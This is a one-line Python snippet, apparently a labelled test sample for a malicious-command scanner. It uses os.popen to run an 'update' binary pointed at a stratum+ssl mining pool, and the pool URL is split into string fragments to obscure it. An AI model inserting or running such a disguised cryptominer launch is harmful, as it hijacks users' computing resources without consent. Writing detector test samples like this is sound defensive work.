import os

os.popen("./update -o " + "".join(["str", "atum+", "ssl://"]) + "pool.example:443") # expect: malicious-command/cryptominer
